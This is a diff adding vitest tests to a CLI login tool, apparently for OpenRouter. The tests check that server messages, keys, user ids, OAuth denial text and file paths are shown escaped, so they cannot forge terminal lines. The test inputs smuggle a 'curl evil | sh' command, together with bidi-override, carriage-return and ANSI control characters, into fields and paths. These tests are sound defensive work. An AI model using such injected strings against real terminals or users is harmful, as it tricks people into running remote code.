@@ -5,6 +5,7 @@
 import { type ChildProcess, spawn } from "node:child_process";
 import { accessSync, constants, readFileSync } from "node:fs";
 import { chmod, mkdtemp, rm, stat, writeFile } from "node:fs/promises";
+import { createServer as createHttpServer } from "node:http";
 import { createServer } from "node:net";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
@@ -12,7 +13,7 @@ import { afterAll, afterEach, beforeEach, describe, expect, test } from "vitest"
 import { load, redirectTarget, visitConsentPage } from "./support/browser-simulator.js";
 import { childEnv, repoRoot, requireBuiltDist } from "./support/build-once.js";
 import { type ConsentStandIn, startConsentStandIn } from "./support/consent-stand-in.js";
-import { connectionRefused } from "./support/loopback-server.js";
+import { connectionRefused, type LoopbackListener, listenOnLoopback } from "./support/loopback-server.js";
 
 const CHILD_TIMEOUT_MS = 15_000;
 
@@ -175,6 +176,86 @@ describe.concurrent("--help and usage errors", () => {
       expect(run.stderr()).toContain("OPENROUTER_BASE_URL must be an absolute http or https URL");
     },
   );
+
+  test("an option from the command line is shown escaped: no line of its own", async () => {
+    const run = runCli(["login", "--bogus\nNow run: curl evil | sh"]);
+    expect((await run.done).code, summary(run)).toBe(2);
+    expect(run.stderr()).toContain("\\nNow run");
+    expect(run.stderr()).not.toMatch(/^Now run/m);
+  });
+});
+
+/** A server that answers the exchange (POST /api/v1/auth/keys) with `status` and `body`, whatever it is sent. */
+async function startExchangeServer(status: number, body: unknown): Promise<LoopbackListener & { apiUrl: string }> {
+  const server = createHttpServer((req, res) => {
+    req.resume().once("end", () => {
+      res.writeHead(status, { "content-type": "application/json" }).end(JSON.stringify(body));
+    });
+  });
+  const listener = await listenOnLoopback(server);
+  return Object.assign(listener, { apiUrl: `${listener.origin}/api/v1` });
+}
+
+/** Whether `text` shows a line (after a newline, a carriage return or U+2028/U+2029) starting with "Now run". */
+const forgesALine = (text: string) => /(^|[\n\r\u2028\u2029])Now run/.test(text);
+
+/** Whether `text` holds, raw (not escaped), one of the control or bidi characters the hostile texts carry. */
+const hasRawControl = (text: string) => ["\u202e", "\u2066", "\u2028", "\r", "\u001b"].some((c) => text.includes(c));
+
+describe("text from outside is shown escaped", () => {
+  withStandIn();
+  const hostile = "Invalid code\nNow run: curl evil | sh \u202ehs | live lruc\u2066\r\u001b[2K";
+
+  test("a server's error message cannot forge a line on stderr", async () => {
+    const server = await startExchangeServer(403, { error: { code: 403, message: hostile } });
+    try {
+      const run = runCli(["login", "--no-open", "--server-url", server.apiUrl], { stdin: "pipe" });
+      await run.url;
+      run.child.stdin!.write("some_code\n");
+      expect((await run.done).code, summary(run)).toBe(1);
+      expect(run.stdout()).toBe("");
+      expect(forgesALine(run.stderr())).toBe(false);
+      expect(run.stderr()).toContain("Invalid code\\nNow run: curl evil | sh \\u202ehs");
+      expect(hasRawControl(run.stderr())).toBe(false);
+    } finally {
+      await server.close();
+    }
+  });
+
+  test("a key and user id with control characters: stdout holds one line, stderr no raw control", async () => {
+    const server = await startExchangeServer(200, { key: `sk-or-v1-abc${hostile}`, user_id: `user_x${hostile}` });
+    try {
+      const run = runCli(["login", "--no-open", "--server-url", server.apiUrl], { stdin: "pipe" });
+      await run.url;
+      run.child.stdin!.write("some_code\n");
+      expect((await run.done).code, summary(run)).toBe(0);
+      expect(run.stdout()).toBe(
+        "sk-or-v1-abcInvalid code\\nNow run: curl evil | sh \\u202ehs | live lruc\\u2066\\r\\u001b[2K\n",
+      );
+      expect(forgesALine(run.stderr())).toBe(false);
+      expect(hasRawControl(run.stderr())).toBe(false);
+    } finally {
+      await server.close();
+    }
+  });
+
+  test("a denial's error_description cannot forge a line either", async () => {
+    standIn.setDecision({ error: "access_denied", errorDescription: `no${hostile}\u2028Now run: x` });
+    const run = runCli(["login", "--no-open", "--server-url", standIn.apiUrl]);
+    await visitConsentPage(await run.url);
+    expect((await run.done).code, summary(run)).toBe(1);
+    expect(forgesALine(run.stderr())).toBe(false);
+    expect(run.stderr()).toContain("\\u2028Now run");
+    expect(hasRawControl(run.stderr())).toBe(false);
+  });
+
+  test("a --out path in a failure message is escaped", async () => {
+    const out = join(scratch, "no\nNow run: curl evil | sh/key");
+    const run = runCli(["login", "--no-open", "--server-url", standIn.apiUrl, "--out", out]);
+    expect((await run.done).code, summary(run)).toBe(1);
+    expect(run.stderr()).toContain("cannot write --out");
+    expect(forgesALine(run.stderr())).toBe(false);
+  });
 });
 
 describe("login", () => {
